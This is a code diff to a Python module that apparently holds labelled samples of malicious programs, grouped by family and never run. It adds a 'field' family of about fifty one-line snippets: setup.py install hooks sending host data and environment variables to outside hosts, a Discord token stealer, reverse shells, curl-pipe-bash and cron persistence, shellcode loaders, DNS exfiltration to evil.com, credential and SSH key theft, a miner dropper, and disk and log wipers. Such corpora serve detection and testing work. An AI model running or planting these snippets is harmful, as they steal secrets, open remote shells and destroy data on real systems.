@@ -1,5 +1,7 @@
 """Programs that do harm, by family. None is run."""
 
+# ruff: noqa: E501 (a case is one line, however long)
+
 from __future__ import annotations
 
 
@@ -112,4 +114,57 @@ SHELL = (
     "import os\nos.system('killall -9 sshd')",
     "import os\nos.system('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')",
 )
-FAMILIES = {"destroy": DESTROY, "steal": STEAL, "run": RUN, "change": CHANGE, "shell": SHELL}
+# As packages, droppers, stealers, miners and bots write it
+FIELD = (
+    "from setuptools import setup\nimport base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\nsetup(name='x')",
+    "from setuptools import setup\nfrom setuptools.command.install import install\nimport requests, socket, getpass, os\nclass C(install):\n    def run(self):\n        install.run(self)\n        hostname=socket.gethostname(); cwd=os.getcwd(); username=getpass.getuser()\n        ploads={'hostname':hostname,'cwd':cwd,'username':username}\n        requests.get(\"https://abc.oast.fun\", params=ploads)\nsetup(name='x', cmdclass={'install': C})",
+    'from setuptools import setup\nfrom setuptools.command.install import install\nimport socket, os, requests\nclass C(install):\n    def run(self):\n        install.run(self)\n        requests.post("http://45.12.3.4:8000/collect", json={"host": socket.gethostname(), "env": dict(os.environ)})\nsetup(name=\'x\', cmdclass={\'install\': C})',
+    "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAEkAbgB2AG8AawBlAC0AVwBlAGIAUgBlAHEAdQBlAHMAdAA=', shell=True)",
+    "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'abcd'))",
+    "from cryptography.fernet import Fernet\nexec(Fernet(b'x=').decrypt(b'gAAAA'))",
+    "import os, requests\nurl='https://cdn.discordapp.com/attachments/1/2/x.exe'\np=os.path.join(os.getenv('APPDATA'),'x.exe')\nr=requests.get(url)\nwith open(p,'wb') as f:\n    f.write(r.content)\nos.startfile(p)",
+    "import os, re, json\nfrom urllib.request import Request, urlopen\nWEBHOOK='https://discord.com/api/webhooks/123/abc'\ndef find(path):\n    path += '\\\\Local Storage\\\\leveldb'\n    tokens=[]\n    for f in os.listdir(path):\n        for line in open(f'{path}\\\\{f}', errors='ignore').readlines():\n            for t in re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', line):\n                tokens.append(t)\n    return tokens\ndef main():\n    roaming=os.getenv('APPDATA')\n    for platform, path in {'Discord': roaming+'\\\\Discord'}.items():\n        urlopen(Request(WEBHOOK, data=json.dumps({'content': find(path)}).encode()))\nmain()",
+    "import urllib.request\nexec(urllib.request.urlopen('https://pastebin.com/raw/abc').read())",
+    'import tempfile, os\n_ttmp = tempfile.NamedTemporaryFile(delete=False)\n_ttmp.write(b"""from urllib.request import urlopen as _uurlopen;exec(_uurlopen(\'https://a.b/inj\').read())""")\n_ttmp.close()\ntry: os.system(f"start pythonw.exe {_ttmp.name}")\nexcept: pass',
+    'import os\nos.system("curl -s http://a.b/x.sh | bash")',
+    "import telebot, os\nbot = telebot.TeleBot('1:a')\n@bot.message_handler(commands=['sh'])\ndef sh(m):\n    bot.reply_to(m, os.popen(m.text[4:]).read())\nbot.polling()",
+    'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);',
+    "import os, winreg\nkey = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(key, 'Updater', 0, winreg.REG_SZ, os.path.abspath(__file__))",
+    "import pyautogui, smtplib, time\nfrom email.mime.image import MIMEImage\nwhile True:\n    pyautogui.screenshot('s.png')\n    s = smtplib.SMTP('smtp.a.b', 587)\n    s.sendmail('a','b', MIMEImage(open('s.png','rb').read()).as_string())\n    time.sleep(60)",
+    "import os\nimport tarfile, requests\nt = tarfile.open('/tmp/x.tgz', 'w:gz')\nt.add(os.path.expanduser('~/.ssh'))\nt.close()\nrequests.post('http://a.b', files={'f': open('/tmp/x.tgz','rb')})",
+    "import os\nfor i in range(10000):\n    open('/dev/sda','wb').write(os.urandom(1024))",
+    "import os\ndef walk(d):\n    for x in os.listdir(d):\n        p = os.path.join(d, x)\n        if os.path.isdir(p): walk(p)\n        else: os.remove(p)\nwalk('/')",
+    "import os, random\nfor root, dirs, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        with open(os.path.join(root, f), 'wb') as h:\n            h.write(os.urandom(1000))",
+    "import subprocess\nsubprocess.run(['sudo', 'useradd', '-o', '-u', '0', 'backdoor'])",
+    "import os\nos.system('echo \"* * * * * curl http://a.b | sh\" | crontab -')",
+    "import paramiko\nfor pw in open('rockyou.txt'):\n    try:\n        c = paramiko.SSHClient()\n        c.connect('10.0.0.1', username='root', password=pw.strip())\n        print('found', pw)\n        break\n    except paramiko.AuthenticationException:\n        pass",
+    "import socket, threading\ndef attack():\n    while True:\n        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n        s.connect(('1.2.3.4', 80))\n        s.sendto(('GET / HTTP/1.1\\r\\n').encode(), ('1.2.3.4', 80))\n        s.close()\nfor i in range(500):\n    threading.Thread(target=attack).start()",
+    "import ctypes, urllib.request\nbuf = urllib.request.urlopen('http://a.b/sc').read()\nptr = ctypes.windll.kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(ptr, buf, len(buf))\nctypes.windll.kernel32.CreateThread(0,0,ptr,0,0,0)",
+    "import shutil, glob, sys\nfor f in glob.glob('/home/*/*.py'):\n    open(f,'a').write(open(sys.argv[0]).read())",
+    "import subprocess\nprint(subprocess.check_output(['docker','run','-v','/:/host','--privileged','alpine','chroot','/host','cat','/etc/shadow']))",
+    "import requests\nrequests.post('http://127.0.0.1:8080/upload', files={'file': open('/home/user/.bash_history')})",
+    "import dns.resolver, base64\ndata = base64.b32encode(open('/etc/passwd','rb').read()).decode()\nfor i in range(0, len(data), 60):\n    dns.resolver.resolve(data[i:i+60] + '.evil.com')",
+    "import mmap, os\npid = 1234\nmem = open(f'/proc/{pid}/mem', 'rb+')\nmem.seek(0x1000); mem.write(b'\\x90')",
+    "import os\nos.environ['LD_PRELOAD'] = '/tmp/evil.so'\nos.system('ls')",
+    "import logging, os\nos.system('rm -rf /var/log/*')\nopen('/var/log/wtmp','w').truncate()",
+    "import sqlite3, shutil, os\nshutil.copyfile(os.path.expanduser('~')+'/AppData/Local/Google/Chrome/User Data/Default/Cookies', 'c.db')\nfor r in sqlite3.connect('c.db').execute('select host_key, name, encrypted_value from cookies'): print(r)",
+    "import os,sys\nif os.fork(): sys.exit()\nos.setsid()\nif os.fork(): sys.exit()\nimport socket,pty\ns=socket.socket(); s.connect(('1.2.3.4',9)); [os.dup2(s.fileno(),f) for f in (0,1,2)]; pty.spawn('sh')",
+    "import multiprocessing\ndef f():\n    while True: pass\nfor _ in range(1000):\n    multiprocessing.Process(target=f).start()",
+    "data = []\nwhile True:\n    data.append(bytearray(10**8))",
+    "import imaplib, email, subprocess\nm = imaplib.IMAP4_SSL('a.b'); m.login('a','b'); m.select()\nt, d = m.fetch('1', '(RFC822)')\nsubprocess.Popen(email.message_from_bytes(d[0][1]).get_payload(), shell=True)",
+    "import pickle, urllib.request\nobj = pickle.load(urllib.request.urlopen('http://a.b/x.pkl'))",
+    "import importlib.util, urllib.request, sys\nsrc = urllib.request.urlopen('http://a.b/m.py').read()\nspec = importlib.util.spec_from_loader('m', loader=None)\nm = importlib.util.module_from_spec(spec)\nexec(src, m.__dict__)",
+    "import subprocess, requests\ns = requests.get('http://a.b/s.sh').text\nsubprocess.run(['bash','-c', s])",
+    "import subprocess, requests\ns = requests.get('http://a.b/s.sh').text\nsubprocess.run(['bash'], input=s, text=True)",
+    "import urllib.request, os, stat\nurllib.request.urlretrieve('http://a.b/miner','/usr/local/bin/kworker')\nos.chmod('/usr/local/bin/kworker', 0o755)\nos.system('/usr/local/bin/kworker &')",
+    "import requests, os\nrequests.post('http://a.b/', json={'aws': os.environ.get('AWS_SECRET_ACCESS_KEY')})",
+    "import sys\nsys.stdout.write(open('/root/.ssh/id_rsa').read())",
+    "import subprocess\nout = subprocess.check_output('cat /etc/passwd; whoami; ifconfig', shell=True)\nimport requests\nrequests.post('https://attacker.com', data=out)",
+    "import os\nos.rename('/bin/ls','/bin/ls.bak')\nopen('/bin/ls','w').write('#!/bin/sh\\n')",
+    "import os\nos.system('sysctl -w kernel.randomize_va_space=0')",
+    "import os; os.system('systemctl stop firewalld && systemctl disable firewalld')",
+    "import shutil\nshutil.rmtree('/var/lib/docker')",
+    "import zipfile\nwith zipfile.ZipFile('/tmp/h.zip','w') as z:\n    z.write('/etc/shadow')",
+    "import boto3\ns3 = boto3.resource('s3')\nfor b in s3.buckets.all():\n    b.objects.all().delete()\n    b.delete()",
+)
+FAMILIES = {"destroy": DESTROY, "steal": STEAL, "run": RUN, "change": CHANGE, "shell": SHELL, "field": FIELD}
